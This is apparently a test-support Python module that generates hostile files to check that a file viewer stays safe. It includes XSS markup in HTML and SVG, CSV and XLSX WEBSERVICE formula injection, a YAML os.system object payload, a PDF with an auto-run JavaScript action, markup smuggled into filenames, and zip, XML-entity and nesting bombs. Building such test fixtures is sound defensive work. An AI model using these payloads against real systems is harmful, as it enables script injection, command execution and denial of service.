"""Files that try to run, load or read something in the browser of whoever looks at them."""

from __future__ import annotations

import base64
import io
import json
import zipfile
import zlib

import numpy as np
import openpyxl
from openpyxl.worksheet.hyperlink import Hyperlink

from tests.support.egress import a_notebook, a_png

_SCRIPT = "<script>window.hit=1;fetch('{at}/s')</script>"
_MARKUP = (
    _SCRIPT + "<img src='{at}/i' onerror='window.hit=1'><link rel=stylesheet href='{at}/c'>"
    "<iframe src='{at}/f'></iframe><object data='{at}/o'></object><video poster='{at}/v'></video>"
    "<base href='{at}/'><meta http-equiv=refresh content='0;url={at}/m'>"
    "<form action='{at}/p'><input autofocus onfocus='window.hit=1'></form>"
    "<style>@import '{at}/css';*{{background:url({at}/bg)}}</style>"
)
_SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
    " onload='window.hit=1' width='40' height='40'>"
    + _SCRIPT
    + "<image width='9' height='9' xlink:href='{at}/a.png'/><use xlink:href='{at}/b.svg#x'/>"
    "<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml'>"
    "<iframe src='{at}/f'/><script>window.hit=1</script></body></foreignObject>"
    "<rect width='9' height='9' style='fill:url({at}/g#x)' onclick='window.hit=1'/>"
    "<style>@import url({at}/css);rect{{fill:url({at}/h#x)}}</style>"
    "<animate attributeName='href' values='javascript:window.hit=1' begin='0s'/>"
    "<a xlink:href='javascript:window.hit=1'><text y='20'>click</text></a></svg>"
)


def files(at: str) -> dict[str, bytes]:
    """A hostile file of each kind that has a viewer; `at` is the address that they try to reach."""
    markup, script = _MARKUP.format(at=at), _SCRIPT.format(at=at)
    picture = base64.b64encode(_SVG.format(at=at).encode()).decode()
    return {
        "plot.svg": _SVG.format(at=at).encode(),
        "page.html": f"<html>{markup}</html>".encode(),
        "run.ipynb": a_notebook(markup, f"</code></pre>{markup}", f"![x]({at}/md)"),
        "table.csv": f'site,"{markup}"\n"{markup}","=WEBSERVICE(""{at}/x"")"\nb,@SUM(1)\n'.encode(),
        "notes.md": f"[x](javascript:window.hit=1) ![x]({at}/md) {markup}\n".encode(),
        "values.json": json.dumps({markup: [markup, f"data:text/html,{script}"]}).encode(),
        "plan.yaml": f"a: !!python/object/apply:os.system ['{at}']\nb: \"{script}\"\n".encode(),
        "paper.tex": f"\\input{{{at}}} {markup}\n".encode(),
        "book.xlsx": a_workbook(at, markup),
        "pages.pdf": a_document(at),
        "model.safetensors": a_model(markup),
        "figure.png": a_png() + markup.encode(),
        "in-svg.svg": "<svg xmlns='http://www.w3.org/2000/svg'><image width='9' height='9' "
        f"href='data:image/svg+xml;base64,{picture}'/></svg>".encode(),
        "' autofocus onfocus='window.hit=1' x='.txt": b"nothing\n",
        "&lt;img src=x onerror=window.hit=1&gt;{{7+7}}.txt": b"nothing\n",
    }


def a_workbook(at: str, markup: str) -> bytes:
    """A workbook with links, a formula that loads, and markup in cells and the name of a sheet."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "<img src=x onerror=hit>"
    sheet["A1"], sheet["A2"], sheet["B1"] = markup, f'=WEBSERVICE("{at}/w")', "x"
    sheet["B1"].hyperlink = Hyperlink(ref="B1", target=f"{at}/link")
    saved = io.BytesIO()
    book.save(saved)
    return saved.getvalue()


def a_document(at: str) -> bytes:
    """A page that runs a script when it is opened and links elsewhere."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R"
        b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('" + at.encode() + b"'\\))>>>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Annots[<</Type/Annot/Subtype/Link"
        b"/Rect[0 0 99 99]/A<</S/URI/URI(" + at.encode() + b")>>>>]>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


def a_model(markup: str) -> bytes:
    """A model whose names and metadata are markup."""
    tensor = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}
    header = json.dumps({"__metadata__": {markup: markup}, markup: tensor}).encode()
    return len(header).to_bytes(8, "little") + header + np.zeros(1, "<f4").tobytes()


def bombs() -> dict[str, bytes]:
    """Small files that grow when they are opened."""
    deep = b"[" * 200_000
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in ("[Content_Types].xml", "xl/workbook.xml"):
            archive.writestr(name, "<x/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * (100 << 20))
    grown = b"<!DOCTYPE s [<!ENTITY a 'aaaaaaaaaa'>" + b"".join(
        f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>".encode() for n in range(9)
    )
    return {
        "deep.json": deep,
        "deep.ipynb": b'{"cells":' + deep,
        "laughs.svg": grown + b"]><svg xmlns='http://www.w3.org/2000/svg'><text>&j;</text></svg>",
        "deep.svg": b"<svg xmlns='http://www.w3.org/2000/svg'>" + b"<g>" * 300_000,
        "book.xlsx": packed.getvalue(),
        "wide.csv": b"a," * 2_000_000 + b"a\n" + b"1," * 2_000_000 + b"1\n",
        "pages.pdf": b"%PDF-1.4\n1 0 obj<</Length 99/Filter/FlateDecode>>stream\n"
        + zlib.compress(b"0" * (100 << 20))
        + b"\nendstream",
    }
